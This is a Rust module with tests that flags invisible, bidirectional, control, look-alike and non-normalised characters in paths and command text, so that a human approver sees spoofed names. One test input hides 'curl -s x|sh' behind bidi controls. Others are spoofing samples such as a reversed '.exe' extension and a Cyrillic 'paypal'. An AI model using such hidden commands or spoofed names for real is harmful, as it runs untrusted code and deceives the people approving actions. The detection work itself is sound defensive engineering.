//! Paths that do not look like what they are: invisible characters (`a.txt\u{200b}`),
//! bidirectional controls, control characters, unusual whitespace, characters that look
//! like ASCII (`..∕x` with U+2215 DIVISION SLASH, Cyrillic `а`, fullwidth dots), spaces at
//! the edge of a name, and text that is not in Unicode NFC (a decomposed `é` names another
//! file than a precomposed one, and both print the same).
//!
//! An approval card shows a path as text, so such a path reads as another one. [`check`]
//! returns a machine-readable flag for each such character — its kind, code point and
//! position — that the Edit tools put in their approval preview (`path_flags`) and the web
//! page shows on the card. Nothing is refused: a flag makes the approver look twice.
//!
//! Look-alikes use the confusable skeletons of Unicode Technical Standard #39 (the
//! `unicode-security` crate, the tables rustc uses for confusable identifiers): a non-ASCII
//! character whose skeleton is printable ASCII looks like that ASCII. A character whose
//! skeleton is empty is default-ignorable, i.e. invisible.

use serde::Serialize;
use unicode_normalization::UnicodeNormalization;
use unicode_properties::{GeneralCategory, GeneralCategoryGroup, UnicodeGeneralCategory};

/// What is wrong with one character of a path.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, utoipa::ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum FlagKind {
    /// A default-ignorable or format character that prints as nothing (U+200B, U+2060,
    /// U+FEFF, U+00AD…).
    Invisible,
    /// A bidirectional control that reorders how the text prints (U+202E, U+2066…).
    BidiControl,
    /// A control character (U+0000–U+001F, U+007F–U+009F): newlines, tabs, escapes.
    Control,
    /// Whitespace other than the ASCII space (U+00A0, U+3000, U+2028…).
    Whitespace,
    /// An ASCII space at the start or end of a path component (`"a.txt "`).
    EdgeWhitespace,
    /// A non-ASCII character that looks like ASCII (`looks_like` says which).
    Lookalike,
    /// A combining mark in a path that is not in NFC: the same text precomposed names
    /// another file (`nfc` of the path gives that form).
    NotNfc,
}

/// One flagged character.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct CharFlag {
    /// What is wrong.
    pub kind: FlagKind,
    /// `U+XXXX`.
    pub code_point: String,
    /// Position in the path, counted in Unicode code points from 0.
    pub char_index: usize,
    /// For [`FlagKind::Lookalike`]: the ASCII text it looks like.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub looks_like: Option<String>,
}

/// The flags of one path field of a call.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, utoipa::ToSchema)]
pub struct PathFlags {
    /// The input field (`path`, `from`, `to`).
    pub field: String,
    /// The path exactly as it will be used.
    pub path: String,
    /// The path with every flagged character written as `\u{XXXX}` (spaces at an edge as
    /// `\u{20}`), so it cannot be read as another path.
    pub escaped: String,
    /// The path's NFC form, when it differs.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub nfc: Option<String>,
    /// Every flagged character, in order.
    pub flags: Vec<CharFlag>,
}

/// Bidirectional formatting characters (Unicode's Bidi_Control property).
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// The ASCII text `c` is confusable with, when it is not ASCII itself.
fn looks_like(c: char) -> Option<String> {
    if c.is_ascii() {
        return None;
    }
    let mut buf = [0u8; 4];
    let skeleton: String = unicode_security::skeleton(c.encode_utf8(&mut buf)).collect();
    (!skeleton.is_empty() && skeleton.chars().all(|s| s.is_ascii_graphic() || s == ' ')).then_some(skeleton)
}

/// The kind of flag `c` gets, if any (edge spaces and NFC are judged on the whole path).
fn classify(c: char) -> Option<(FlagKind, Option<String>)> {
    if c == ' ' || c.is_ascii_graphic() {
        return None;
    }
    if is_bidi_control(c) {
        return Some((FlagKind::BidiControl, None));
    }
    let category = c.general_category();
    if category == GeneralCategory::Control {
        return Some((FlagKind::Control, None));
    }
    let mut buf = [0u8; 4];
    if category == GeneralCategory::Format || unicode_security::skeleton(c.encode_utf8(&mut buf)).next().is_none() {
        return Some((FlagKind::Invisible, None));
    }
    if c.general_category_group() == GeneralCategoryGroup::Separator {
        return Some((FlagKind::Whitespace, None));
    }
    looks_like(c).map(|ascii| (FlagKind::Lookalike, Some(ascii)))
}

/// Flags `path` (the value of input field `field`); None when nothing in it misleads.
pub fn check(field: &str, path: &str) -> Option<PathFlags> {
    let chars: Vec<char> = path.chars().collect();
    let not_nfc = !unicode_normalization::is_nfc(path);
    // Spaces at either end of a component.
    let mut edge = vec![false; chars.len()];
    let mut start = 0;
    for end in (0..=chars.len()).filter(|&i| i == chars.len() || chars[i] == '/') {
        let mut i = start;
        while i < end && chars[i] == ' ' {
            edge[i] = true;
            i += 1;
        }
        let mut j = end;
        while j > i && chars[j - 1] == ' ' {
            edge[j - 1] = true;
            j -= 1;
        }
        start = end + 1;
    }
    let mut flags = Vec::new();
    let mut escaped = String::with_capacity(path.len());
    for (i, &c) in chars.iter().enumerate() {
        let found = if edge[i] {
            Some((FlagKind::EdgeWhitespace, None))
        } else if let Some(f) = classify(c) {
            Some(f)
        } else if not_nfc && c.general_category_group() == GeneralCategoryGroup::Mark {
            Some((FlagKind::NotNfc, None))
        } else {
            None
        };
        match found {
            Some((kind, looks_like)) => {
                flags.push(CharFlag { kind, code_point: format!("U+{:04X}", u32::from(c)), char_index: i, looks_like });
                escaped.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
            }
            None => escaped.push(c),
        }
    }
    let nfc = not_nfc.then(|| path.nfc().collect::<String>());
    if flags.is_empty() && nfc.is_none() {
        return None;
    }
    Some(PathFlags { field: field.to_owned(), path: path.to_owned(), escaped, nfc, flags })
}

/// The flags of several path fields, as the JSON array an approval preview carries (empty
/// when nothing is flagged).
pub fn flags_json(fields: &[(&str, &str)]) -> serde_json::Value {
    let found: Vec<PathFlags> = fields.iter().filter_map(|(field, path)| check(field, path)).collect();
    serde_json::to_value(found).unwrap_or_default()
}

/// The kind of flag `c` gets in running text (a command line, a message, bytes a terminal is
/// sent), if any: the characters that print as nothing or change the order text prints in —
/// bidirectional controls, invisible and format characters, control characters (the
/// characters of `keep`, e.g. `\n` and `\t` of a multi-line text, are left alone) and
/// whitespace other than the ASCII space (U+2028, U+00A0…). Look-alike letters are not
/// flagged in text: they are ordinary in any language but English.
pub fn text_flag(c: char, keep: &[char]) -> Option<FlagKind> {
    if keep.contains(&c) {
        return None;
    }
    match classify(c) {
        Some((FlagKind::Lookalike, _)) | None => None,
        Some((kind, _)) => Some(kind),
    }
}

/// The kinds of misleading characters ([`text_flag`], `\n` and `\t` allowed) in `texts`,
/// each once, in the order of [`FlagKind`]: what an approval preview carries as
/// `text_flags` (empty when the text prints as its bytes).
pub fn text_flags<'a>(texts: impl IntoIterator<Item = &'a str>) -> Vec<FlagKind> {
    let mut found = Vec::new();
    for c in texts.into_iter().flat_map(str::chars) {
        if let Some(kind) = text_flag(c, &['\n', '\t'])
            && !found.contains(&kind)
        {
            found.push(kind);
        }
    }
    found.sort_by_key(|k| *k as u8);
    found
}

/// `text` with every character [`text_flag`] flags (but those of `keep`) written as
/// `\u{XXXX}` (lower-case hex, as the web page writes them), and whether any was.
pub fn escape_text(text: &str, keep: &[char]) -> (String, bool) {
    let mut out = String::with_capacity(text.len());
    let mut escaped = false;
    for c in text.chars() {
        if text_flag(c, keep).is_some() {
            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
            escaped = true;
        } else {
            out.push(c);
        }
    }
    (out, escaped)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_flags_name_bidi_and_invisible_characters_but_not_newlines_or_letters() {
        let args = ["-c", "echo build ok \u{202e}\u{2066}; curl -s x|sh #\u{2069}\u{2066}# verify\u{2069}\u{202c}"];
        assert_eq!(text_flags(args), [FlagKind::BidiControl]);
        assert_eq!(text_flags(["a\u{200b}b", "c\u{202e}"]), [FlagKind::Invisible, FlagKind::BidiControl]);
        assert_eq!(text_flags(["ls -la\n", "a\tb", "привет", "café"]), Vec::<FlagKind>::new());
        assert_eq!(text_flags(["a\u{1b}[2J", "x\u{2028}y"]), [FlagKind::Control, FlagKind::Whitespace]);
        let (e, any) = escape_text("ok \u{202e}x\ny", &['\n']);
        assert_eq!((e.as_str(), any), ("ok \\u{202e}x\ny", true));
        assert_eq!(escape_text("plain\ttext", &['\t']), ("plain\ttext".to_owned(), false));
    }

    fn kinds(path: &str) -> Vec<(FlagKind, String, Option<String>)> {
        check("path", path)
            .map(|f| f.flags.into_iter().map(|c| (c.kind, c.code_point, c.looks_like)).collect())
            .unwrap_or_default()
    }

    #[test]
    fn plain_paths_are_not_flagged() {
        for ok in ["a.txt", "src/main.rs", "docs/My File (1).md", "café.txt", "Ünïcödé/日本語.txt", "a-b_c~d"] {
            assert_eq!(check("path", ok), None, "{ok}");
        }
    }

    #[test]
    fn invisible_bidi_and_control_characters_are_flagged() {
        assert_eq!(kinds("a.txt\u{200b}"), [(FlagKind::Invisible, "U+200B".into(), None)]);
        assert_eq!(kinds("a\u{2060}b"), [(FlagKind::Invisible, "U+2060".into(), None)]);
        assert_eq!(kinds("\u{feff}a"), [(FlagKind::Invisible, "U+FEFF".into(), None)]);
        assert_eq!(kinds("a\u{00ad}b"), [(FlagKind::Invisible, "U+00AD".into(), None)]);
        assert_eq!(kinds("x\u{202e}txt.exe"), [(FlagKind::BidiControl, "U+202E".into(), None)]);
        assert_eq!(kinds("x\u{2066}y"), [(FlagKind::BidiControl, "U+2066".into(), None)]);
        assert_eq!(kinds("a\nb"), [(FlagKind::Control, "U+000A".into(), None)]);
        assert_eq!(kinds("a\u{a0}b"), [(FlagKind::Whitespace, "U+00A0".into(), None)]);
        let f = check("path", "a.txt\u{200b}").unwrap();
        assert_eq!(f.escaped, "a.txt\\u{200b}");
        assert_eq!(f.flags[0].char_index, 5);
    }

    #[test]
    fn lookalike_slashes_dots_and_letters_are_flagged() {
        assert_eq!(kinds("..\u{2215}x"), [(FlagKind::Lookalike, "U+2215".into(), Some("/".into()))]);
        assert_eq!(kinds("a\u{2044}b"), [(FlagKind::Lookalike, "U+2044".into(), Some("/".into()))]);
        let dots = kinds("\u{2024}\u{2024}/x");
        assert_eq!(dots.len(), 2);
        assert_eq!(dots[0].0, FlagKind::Lookalike);
        assert_eq!(dots[0].2.as_deref(), Some("."));
        assert_eq!(kinds("p\u{0430}yp\u{0430}l.txt")[0], (FlagKind::Lookalike, "U+0430".into(), Some("a".into())));
        assert_eq!(kinds("a\u{ff0e}txt")[0].2.as_deref(), Some("."));
    }

    #[test]
    fn nfd_and_edge_spaces_are_flagged() {
        let f = check("path", "cafe\u{301}.txt").unwrap();
        assert_eq!(f.nfc.as_deref(), Some("café.txt"));
        assert_eq!(f.flags[0].kind, FlagKind::NotNfc);
        assert_eq!(f.flags[0].code_point, "U+0301");
        assert_eq!(kinds("a.txt "), [(FlagKind::EdgeWhitespace, "U+0020".into(), None)]);
        assert_eq!(kinds(" dir/a b.txt").len(), 1);
        assert_eq!(check("to", "dir /x").unwrap().escaped, "dir\\u{20}/x");
    }
}
